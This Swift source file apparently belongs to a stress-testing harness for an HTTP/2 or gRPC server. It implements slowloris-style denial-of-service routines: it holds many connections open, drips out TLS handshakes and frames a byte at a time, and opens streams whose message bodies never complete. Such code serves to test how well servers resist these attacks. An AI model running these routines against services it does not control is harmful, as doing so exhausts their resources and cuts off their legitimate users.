/// Connections, headers and bodies that come slowly or never.
extension Attack {
    private static let socketsAtOnce = 100

    func takeConnections(_ target: AttackTarget, _ stop: StopFlag) throws {
        var held: [Attacker] = []
        // The beginning of a ClientHello, or of the preface where there is no TLS.
        let hello: [UInt8] = target.credentials == nil ? Frames.preface : [22, 3, 1, 1, 0, 1, 0, 0, 252, 3, 3]
        for _ in 0..<Self.socketsAtOnce {
            held.append(try Attacker(target, stop, isBare: self != .manyConnections))
        }
        if self == .manyConnections { return }
        for byte in hello.prefix(20) {
            for attacker in held where self == .slowHandshake { try? attacker.send([byte]) }
            try Pause.milliseconds(50, stop)
        }
    }

    func trickle(_ target: AttackTarget, _ stop: StopFlag) throws {
        var held: [Attacker] = []
        for _ in 0..<20 {
            let attacker = try Attacker(target, stop)
            for number in 0..<(self == .slowHeaders ? 1 : 50) {
                try attacker.send(opening(UInt32(2 * number + 1)))
            }
            held.append(attacker)
        }
        for _ in 0..<40 {
            for attacker in held {
                try? attacker.send(morsel)
                try? attacker.drain()
            }
            try Pause.milliseconds(50, stop)
        }
    }

    private func opening(_ stream: UInt32) -> [UInt8] {
        switch self {
        case .slowHeaders: Frames.headers(stream, path: Frames.unary, flags: 0)
        case .slowStreams:
            Frames.headers(stream, path: Frames.duplex)
                + Frames.data(stream, Frames.message([], length: 60), ends: false)
        default:
            Frames.headers(stream, path: Frames.unary)
                + Frames.data(stream, Frames.message([], length: 60), ends: false)
        }
    }

    private var morsel: [UInt8] {
        self == .slowHeaders ? [0] : Frames.data(1, [0], ends: false)
    }

    /// As many bytes as a connection lets in, of messages that never end.
    func holdMessages(_ target: AttackTarget, _ stop: StopFlag) throws {
        let attacker = try Attacker(target, stop)
        let chunk = [UInt8](repeating: 1, count: 16_384)
        for number in 0..<100 {
            let stream = UInt32(2 * number + 1)
            try attacker.send(
                Frames.headers(stream, path: Frames.unary)
                    + Frames.data(stream, Frames.message([], length: 4 << 20), ends: false))
        }
        for _ in 0..<60 {
            for number in 0..<100 {
                try attacker.send(Frames.data(UInt32(2 * number + 1), chunk, ends: false))
                try attacker.drain()
            }
        }
    }
}
